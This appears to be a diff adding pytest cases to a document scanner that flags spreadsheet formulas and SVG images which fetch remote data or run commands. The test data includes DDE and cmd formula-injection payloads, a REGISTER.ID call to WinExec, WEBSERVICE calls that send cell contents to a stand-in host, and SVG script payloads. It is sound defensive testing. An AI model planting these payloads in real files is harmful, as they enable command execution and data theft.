@@ -1,5 +1,6 @@
 """What a packed document fetches or runs is found however it is written; others are taken."""
 
+import time
 from io import BytesIO
 
 import pytest
@@ -13,7 +14,7 @@ from tests.papers import made
 from yishi.documents.own.apart import wrong_with
 from yishi.papers import content
 from yishi.papers.content import NotTaken, checked
-from yishi.papers.inside import reach
+from yishi.papers.inside import formulas, reach
 
 KIND = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
 W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
@@ -222,3 +223,135 @@ def test_an_open_document_that_fetches_or_runs_is_refused() -> None:
         assert reach.look([f"<office>{said}</office>".encode()]) in ("active", "away"), said
     for said in ('<draw:image xlink:href="Pictures/1.png"/>', '<text:a xlink:href="http://x/"/>'):
         assert reach.look([f"<office>{said}</office>".encode()]) == "", said
+
+
+# ── spreadsheets ──────────────────────────────────────────────────────────────────────────────
+
+SHEET = f"{content.XLSX}.main+xml"
+REACHES = [
+    '_xlfn.WEBSERVICE("http://x.example/?a="&amp;A1)',
+    '1+webservice ("http://x.example/")',
+    'IF(A1="","",_xlfn.IMAGE("http://x.example/a.png"))',
+    'RTD("x.y",,"z")',
+    'DDE("soffice";"a";"b")',
+    "cmd|'/c calc'!A0",
+    'REGISTER.ID("kernel32","WinExec")',
+    '"a""b"&amp;WEBSERVICE(A1)',
+]
+STAYS = [
+    "SUM(Sheet1!A1:A9)",
+    'HYPERLINK("http://www.gov.cn/","中国政府网")',
+    '_xlfn.DISPIMG("ID_12",1)',
+    '"WEBSERVICE("&amp;A1',
+    "'甲|乙'!A1",
+    "SUM('[预算.xlsx]甲|乙'!A1)",
+    "MYWEBSERVICE(A1)",
+]
+
+
+def sheet(said: str) -> bytes:
+    return f"<worksheet><sheetData><c><f>{said}</f></c></sheetData></worksheet>".encode()
+
+
+@pytest.mark.parametrize("said", REACHES)
+def test_a_formula_that_fetches_or_starts_something_is_refused(said: str) -> None:
+    names = f"<workbook><definedNames><definedName>{said}</definedName></definedNames></workbook>"
+
+    assert why(made.packed({"xl/worksheets/sheet1.xml": sheet(said)}, SHEET)) == "not: active"
+    assert why(made.packed({"xl/workbook.xml": names.encode()}, SHEET)) == "not: active"
+
+
+@pytest.mark.parametrize("said", STAYS)
+def test_other_formulas_are_taken(said: str) -> None:
+    assert why(made.packed({"xl/worksheets/sheet1.xml": sheet(said)}, SHEET)) == content.XLSX
+
+
+def test_a_formula_cut_in_the_middle_is_one_all_the_same() -> None:
+    cut = sheet("<![CDATA[WEB]]><!-- -->SERVI&#67;E(A1)")
+    assert why(made.packed({"xl/worksheets/sheet1.xml": cut}, SHEET)) == "not: active"
+
+
+def test_a_field_within_a_fraction_is_heard_too() -> None:
+    said = f"<m:f xmlns:m='m'><m:num>a|b{field(run('DDEAUTO cmd'))}</m:num></m:f>"
+    assert why(made.packed({"word/document.xml": body(said)})) == "not: active"
+
+
+def test_a_workbook_that_asks_a_database_is_refused() -> None:
+    for said in ("<dbPr connection='Provider=x'/>", "<textPr sourceFile='\\\\server\\x.csv'/>"):
+        part = f"<connections><connection>{said}</connection></connections>".encode()
+        assert why(made.packed({"xl/connections.xml": part}, SHEET)) == "not: active", said
+    own = b"<connections><connection><textPr sourceFile='C:\\a.csv'/></connection></connections>"
+    assert why(made.packed({"xl/connections.xml": own}, SHEET)) == content.XLSX
+
+
+@pytest.mark.parametrize(
+    ("said", "reason"),
+    [
+        ('名称,金额\n甲,"=WEBSERVICE(""http://x.example"")"\n', "not: active"),
+        ("名称\t金额\r\n=cmd|'/c calc'!A0\t1\r\n", "not: active"),
+        ("甲,-1,@SUM(A1)\n乙,+2,=A1*2\n", "text/plain; charset=utf-8"),
+        ("# 说明\n\n- WEBSERVICE 不要用\n\n| 甲 | 乙 |\n", "text/plain; charset=utf-8"),
+        ("在单元格里写 WEBSERVICE(网址) 会取网上的数据。", "text/plain; charset=utf-8"),
+    ],
+)
+def test_a_text_that_a_spreadsheet_would_run_is_refused(said: str, reason: str) -> None:
+    assert why(said.encode()) == reason
+
+
+def test_looking_for_formulas_in_a_text_takes_no_longer_for_one_made_to() -> None:
+    begun = time.process_time()
+    for said in ("a|" * 2_000_000, "=,-" * 1_000_000, "WEBSERVICE(" * 200_000, "a" * 4_000_000):
+        formulas.in_text(said)
+        content._draws(("<!" + said)[: content._BEGINNING])
+    assert time.process_time() - begun < 5
+
+
+# ── drawings ──────────────────────────────────────────────────────────────────────────────────
+
+SVG = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
+DRAWN = {
+    "<script>alert(1)</script>": "active",
+    '<rect onload="x()"/>': "active",
+    '<image xlink:href="http://x.example/a.png"/>': "away",
+    '<use href="//x.example/a.svg#b"/>': "away",
+    '<rect style="fill:url(http://x.example/a)"/>': "away",
+    "<style>@import 'http://x.example/a.css';</style>": "away",
+    "<style>.a{background:URL( 'https://x.example/a')}</style>": "away",
+    '<set attributeName="xlink:href" to="http://x.example/"/>': "active",
+    '<g xml:base="http://x.example/"><image href="a.png"/></g>': "away",
+}
+PLAIN = (
+    '<defs><linearGradient id="a"/></defs><style>.b{fill:url(#a)}</style><use xlink:href="#a"/>'
+    '<image href="data:image/png;base64,AA=="/><a href="http://www.gov.cn/"><text>甲</text></a>'
+)
+
+
+@pytest.mark.parametrize("said", DRAWN)
+def test_a_drawing_in_a_document_that_fetches_or_runs_is_refused(said: str) -> None:
+    part = f"<svg {SVG}>{said}</svg>".encode()
+    assert reach.look([part]) == DRAWN[said]
+    assert why(made.packed({"word/media/image1.svg": part})) == "not: active"
+
+
+def test_a_drawing_as_programs_make_it_is_taken() -> None:
+    kind = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
+    part = f"<?xml version='1.0'?>{kind}<svg {SVG}>{PLAIN}</svg>".encode()
+    assert why(made.packed({"word/media/image1.svg": part})) == content.DOCX
+
+    styled = b"<?xml-stylesheet href='http://x.example/a.css'?>" + part.partition(b"?>")[2]
+    assert why(made.packed({"word/media/image1.svg": styled})) == "not: active"
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        "",
+        "\ufeff",
+        "<?xml version='1.0'?>\n<!-- <a> -->",
+        "<!DOCTYPE svg [<!ENTITY a 'b'>]>",
+        "<!-- " + "a" * 3000 + " -->",
+    ],
+)
+def test_a_drawing_by_itself_is_told_from_a_text(before: str) -> None:
+    assert why(f"{before}<svg {SVG}/>".encode()) == "not: drawing"
+    assert why(f"{before}关于 <svg> 的说明".encode()).startswith("text/plain")
